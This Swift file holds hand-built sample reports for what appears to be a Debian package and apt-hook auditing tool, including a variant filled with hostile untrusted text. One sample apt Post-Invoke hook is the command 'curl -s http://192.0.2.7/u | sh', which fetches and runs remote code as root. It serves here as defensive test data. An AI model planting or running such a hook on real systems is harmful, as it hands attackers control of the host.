import AuditModel

/// Small reports built by hand, the same on every machine.
enum SampleReport {
    /// A host with one finding of each severity.
    static func findings() -> AuditReport {
        make(Self.names, limits: ["The running kernel was believed."])
    }

    /// The same host where every text of the tree is as bad as bytes can be.
    static func hostile(_ text: UntrustedText) -> AuditReport {
        var names = Names()
        names.host = text
        names.release = text
        names.root = UntrustedText(Array("/srv/".utf8) + text.bytes)
        names.package = text
        names.version = text
        names.script = HostPath("/var/lib/dpkg/info".utf8).appending(text)
        names.configuration = HostPath("/etc/apt/apt.conf.d".utf8).appending(text)
        names.key = text
        names.command = text
        names.archive = UntrustedText(Array("/archives/".utf8) + text.bytes)
        names.program = HostPath("/usr/local/bin".utf8).appending(text)
        names.log = text
        return make(names, limits: ["The tree says \(text)."])
    }

    /// The same host with exceptions: one that silences the first finding, and one that expired; their texts are given.
    static func excepting(_ text: UntrustedText) -> AuditReport {
        let sample = findings()
        var silenced = sample.findings
        silenced[0].exceptedBy = text
        let source = ExceptionSource(file: text, line: 7)
        let expiry = ExceptionExpiry(end: Timestamp(seconds: 1_700_000_000), written: text)
        let used = AuditException(
            id: text, scope: .disk, rules: [text], conditions: [], reason: text, owner: text, source: source)
        let expired = AuditException(id: "old", scope: .disk, conditions: [], expiry: expiry, source: source)
        return AuditReport(
            run: sample.run, host: sample.host, policy: sample.policy, coverage: sample.coverage,
            artifacts: sample.artifacts, findings: silenced, hooks: sample.hooks, packageCount: 2, archiveCount: 1,
            checks: sample.checks, indexes: sample.indexes,
            exceptions: [
                ExceptionStanding(
                    exception: used, state: .used, breadth: nil, uses: [.finding(id: silenced[0].id)], useCount: 1),
                ExceptionStanding(exception: expired, state: .expired, breadth: nil, uses: [], useCount: 0),
            ])
    }

    /// Nothing found, everything examined.
    static func clean() -> AuditReport {
        let sample = findings()
        return AuditReport(
            run: sample.run, host: sample.host, policy: sample.policy, coverage: Coverage(),
            artifacts: sample.artifacts.filter { $0.assessment.map { $0.rung >= .archiveOnly } ?? true }, findings: [],
            hooks: [], packageCount: 1, archiveCount: 1, checks: sample.checks)
    }

    /// Nothing found and everything examined, and one script of two not proven.
    static func unproven(requiring rung: EvidenceRung? = .archiveOnly) -> AuditReport {
        let sample = findings()
        return AuditReport(
            run: sample.run, host: sample.host, policy: AuditPolicy(requiredRung: rung), coverage: Coverage(),
            artifacts: sample.artifacts.filter { $0.role == .maintainerScript && $0.assessment?.rung != .contradicted },
            findings: [], hooks: [], packageCount: 2, archiveCount: 1, checks: sample.checks)
    }

    private static let names = Names()

    /// Everything in a report that comes from the audited tree.
    struct Names {
        var host: UntrustedText = "web-1"
        var release: UntrustedText = "Debian GNU/Linux 12 (bookworm)"
        var root: UntrustedText = "/mnt/image"
        var package: UntrustedText = "openssh-server"
        var version: UntrustedText = "1:9.2p1-2+deb12u3"
        var script: HostPath = "/var/lib/dpkg/info/openssh-server.postinst"
        var configuration: HostPath = "/etc/apt/apt.conf.d/99-update"
        var key: UntrustedText = "APT::Update::Post-Invoke::"
        var command: UntrustedText = "/usr/bin/curl -s http://192.0.2.7/u | sh"
        var archive: UntrustedText = "/archives/openssh-server_9.2p1-2+deb12u3_amd64.deb"
        var program: HostPath = "/usr/bin/mv"
        var log: UntrustedText = "events.ndjson"

        var owner: PackageKey { PackageKey(name: package, architecture: "amd64") }
    }

    static func make(_ names: Names, limits: [ReportText]) -> AuditReport {
        var host = HostDescription(root: names.root, isLive: false)
        host.hostname = names.host
        host.release = names.release
        var coverage = Coverage()
        coverage.examined = 4
        coverage.gaps = [
            CoverageGap(path: names.script.appending("x"), reason: "cannot be read: \(names.host)", errno: 13)
        ]
        coverage.limits = limits
        return AuditReport(
            run: RunIdentity(
                version: "0.1.0", started: Timestamp(seconds: 1_795_435_200, nanoseconds: 250_000_000),
                finished: Timestamp(seconds: 1_795_435_203, nanoseconds: 125_000_000), uid: 0),
            host: host, policy: AuditPolicy(), coverage: coverage,
            artifacts: SampleArtifacts.all(names).sorted { $0.path < $1.path }, findings: SampleFindings.all(names),
            hooks: [
                ConfiguredHook(
                    program: "apt", key: names.key, when: "after every update of the package lists", asWhom: "root",
                    command: names.command, position: SourcePosition(file: names.configuration, line: 3), owner: nil,
                    rung: .unverifiable, knownShape: nil)
            ],
            packageCount: 2, archiveCount: 1, checks: SampleFindings.checks,
            indexes: [SampleArtifacts.chain(names)].compactMap(\.self), events: SampleEvents.all(names),
            cases: SampleCases.all(names))
    }
}

extension AuditReport {
    /// The same report with its first case alone, and other steps in it.
    func withFirstCase(steps: [CaseStep]) -> AuditReport {
        var story = cases[0]
        story.steps = steps
        return showing([story])
    }

    /// The same report with other cases, and with the events given.
    func showing(_ cases: [Case], events: EventEvidence? = nil) -> AuditReport {
        AuditReport(
            run: run, host: host, policy: policy, coverage: coverage, artifacts: artifacts, findings: findings,
            hooks: hooks, packageCount: packageCount, archiveCount: archiveCount, checks: checks, indexes: indexes,
            exceptions: exceptions, events: events ?? self.events, cases: cases)
    }
}
